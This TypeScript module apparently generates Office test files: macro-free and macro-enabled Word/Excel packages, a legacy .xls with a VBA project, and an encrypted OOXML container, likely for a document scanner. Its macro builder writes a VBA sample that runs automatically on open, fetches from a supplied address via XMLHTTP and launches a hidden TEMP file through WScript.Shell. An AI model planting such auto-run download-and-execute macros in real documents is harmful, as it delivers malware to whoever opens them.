/** Office files small enough to read: OOXML with and without a VBA project (MS-OVBA in a compound file), .xls with macros, encrypted OOXML. */
import cfb from 'cfb';
import { zipSync } from 'fflate';
import iconv from 'iconv-lite';

const utf8 = (text: string): Uint8Array => Buffer.from(text, 'utf8');
const xml = (text: string): string => text.replace(/&/g, '&amp;').replace(/</g, '&lt;');
const head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const types = 'http://schemas.openxmlformats.org/package/2006/content-types';
const links = 'http://schemas.openxmlformats.org/package/2006/relationships';
const office2006 = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** Compressed container (MS-OVBA 2.4.1) made of literal tokens only, in chunks of at most 3,200 bytes. */
function compress(bytes: Uint8Array): Buffer {
  const out: Buffer[] = [Buffer.of(1)];
  for (let at = 0; at < bytes.length; at += 3200) {
    const chunk = bytes.subarray(at, at + 3200);
    const data: number[] = [];
    for (let from = 0; from < chunk.length; from += 8) data.push(0, ...chunk.subarray(from, from + 8));
    const header = Buffer.alloc(2);
    header.writeUInt16LE(0xb000 | (data.length + 2 - 3));
    out.push(header, Buffer.from(data));
  }
  return Buffer.concat(out);
}

function field(id: number, data: Uint8Array): Buffer {
  const start = Buffer.alloc(6);
  start.writeUInt16LE(id, 0);
  start.writeUInt32LE(data.length, 2);
  return Buffer.concat([start, data]);
}

function number(value: number, size: 2 | 4): Buffer {
  const bytes = Buffer.alloc(size);
  bytes.writeUIntLE(value, 0, size);
  return bytes;
}

/** The dir stream (MS-OVBA 2.3.4.2) for one module. */
function directory(module: string): Buffer {
  const name = Buffer.from(module, 'latin1');
  const wide = Buffer.from(module, 'utf16le');
  const none = Buffer.alloc(0);
  return Buffer.concat([
    field(0x01, number(3, 4)), field(0x02, number(0x411, 4)), field(0x14, number(0x411, 4)), field(0x03, number(932, 2)),
    field(0x04, Buffer.from('VBAProject')), field(0x05, none), field(0x40, none), field(0x06, none), field(0x3d, none),
    field(0x07, number(0, 4)), field(0x08, number(0, 4)), number(0x09, 2), number(4, 4), number(0x5f3a1c2b, 4), number(7, 2),
    field(0x0c, none), field(0x3c, none),
    field(0x0f, number(1, 2)), field(0x13, number(0xffff, 2)),
    field(0x19, name), field(0x47, wide), field(0x1a, name), field(0x32, wide), field(0x1c, none), field(0x48, none),
    field(0x31, number(0, 4)), field(0x1e, number(0, 4)), field(0x2c, number(0xffff, 2)), field(0x21, none), field(0x2b, none),
    field(0x10, none),
  ]);
}

function macro(fetches: string | undefined): Buffer {
  const source = fetches === undefined ? 'Attribute VB_Name = "ThisDocument"\r\nSub Goukei()\r\n  Range("B10").Value = WorksheetFunction.Sum(Range("B2:B9"))\r\nEnd Sub\r\n' : [
    'Attribute VB_Name = "ThisDocument"',
    'Sub AutoOpen()', '  Call Hajime', 'End Sub',
    'Sub Workbook_Open()', '  Call Hajime', 'End Sub',
    'Private Sub Hajime()', "  ' 明細を表示します",
    '  Dim w As Object, s As Object',
    '  Set w = CreateObject("MSXML2.XMLHTTP")',
    `  w.Open "GET", "${fetches}", False`, '  w.send',
    '  Set s = CreateObject("WScript.Shell")', '  s.Run Environ("TEMP") & "\\m.dat", 0', 'End Sub', '',
  ].join('\r\n');
  return compress(iconv.encode(source, 'cp932'));
}

/** A compound file; the library leaves a four-byte stream of its own in it. */
function compound(streams: Readonly<Record<string, Uint8Array>>): Uint8Array {
  const container = cfb.utils.cfb_new();
  for (const [path, bytes] of Object.entries(streams)) cfb.utils.cfb_add(container, `/${path}`, Buffer.from(bytes));
  const written: unknown = cfb.write(container, { type: 'buffer' });
  return written as Uint8Array;
}

function projectStreams(fetches: string | undefined, prefix: string): Record<string, Uint8Array> {
  return {
    [`${prefix}VBA/dir`]: compress(directory('ThisDocument')),
    [`${prefix}VBA/_VBA_PROJECT`]: Buffer.from('cc61ffff00000000', 'hex'),
    [`${prefix}VBA/ThisDocument`]: macro(fetches),
    [`${prefix}PROJECT`]: Buffer.from('ID="{5F0B2C1D-0000-4000-8000-3A5B7C9D1E2F}"\r\nDocument=ThisDocument/&H00000000\r\nName="VBAProject"\r\n', 'latin1'),
  };
}

/** vbaProject.bin: one module that runs on opening and fetches from the given address, or a harmless one when there is none. */
export function vbaProject(fetches?: string): Uint8Array {
  return compound(projectStreams(fetches, ''));
}

/** A .xls: a compound file with a BIFF8 workbook of one empty sheet and a VBA project. */
export function legacyWorkbook(fetches: string): Uint8Array {
  const bof = (kind: number): Buffer => Buffer.concat([Buffer.from('09081000', 'hex'), number(0x600, 2), number(kind, 2), Buffer.alloc(12)]);
  const end = Buffer.from('0a000000', 'hex');
  const sheet = Buffer.concat([Buffer.from('85000e00', 'hex'), number(20 + 18 + 4, 4), Buffer.from('000006005368656574 31'.replace(' ', ''), 'hex')]);
  return compound({ Workbook: Buffer.concat([bof(5), sheet, end, bof(0x10), end]), ...projectStreams(fetches, '_VBA_PROJECT_CUR/') });
}

/** Encrypted OOXML as seen from outside (MS-OFFCRYPTO 1.3.3): version 4.4 info and an unreadable package. */
export function encryptedOffice(): Uint8Array {
  const info = Buffer.concat([Buffer.from('0400040040000000', 'hex'), Buffer.from(`${head}<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"><keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="ZGVtbwAAAAAAAAAAAAAAAA=="/></encryption>`)]);
  const sealed = Buffer.from(Array.from({ length: 6144 }, (_, index) => (Math.imul(index + 1, 2654435761) >>> 13) & 0xff));
  return compound({ EncryptionInfo: info, EncryptedPackage: sealed });
}

/** A Word document or Excel book with the lines as paragraphs or cells of column A. */
export function office(kind: 'docx' | 'docm' | 'xlsx' | 'xlsm', lines: readonly string[], project?: Uint8Array): Uint8Array {
  const word = kind.startsWith('doc');
  const main = word ? 'word/document.xml' : 'xl/workbook.xml';
  const mainType = { docx: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml', docm: 'application/vnd.ms-word.document.macroEnabled.main+xml', xlsx: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml', xlsm: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml' }[kind];
  const vba = project ? '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' : '';
  const relations = [
    ...(word ? [] : [`<Relationship Id="rId1" Type="${office2006}/worksheet" Target="worksheets/sheet1.xml"/>`]),
    ...(project ? ['<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'] : []),
  ].join('');
  const files: Record<string, Uint8Array> = {
    '[Content_Types].xml': utf8(`${head}<Types xmlns="${types}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${vba}<Override PartName="/${main}" ContentType="${mainType}"/>${word ? '' : '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'}</Types>`),
    '_rels/.rels': utf8(`${head}<Relationships xmlns="${links}"><Relationship Id="rId1" Type="${office2006}/officeDocument" Target="${main}"/></Relationships>`),
    [main.replace(/([^/]+)$/, '_rels/$1.rels')]: utf8(`${head}<Relationships xmlns="${links}">${relations}</Relationships>`),
  };
  if (word) files[main] = utf8(`${head}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${lines.map((line) => `<w:p><w:r><w:t>${xml(line)}</w:t></w:r></w:p>`).join('')}</w:body></w:document>`);
  else {
    files[main] = utf8(`${head}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${office2006}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`);
    files['xl/worksheets/sheet1.xml'] = utf8(`${head}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${lines.map((line, index) => `<row r="${index + 1}"><c r="A${index + 1}" t="inlineStr"><is><t>${xml(line)}</t></is></c></row>`).join('')}</sheetData></worksheet>`);
  }
  if (project) files[word ? 'word/vbaProject.bin' : 'xl/vbaProject.bin'] = project;
  return zipSync(files, { mtime: '2026-11-02T09:00:00' });
}
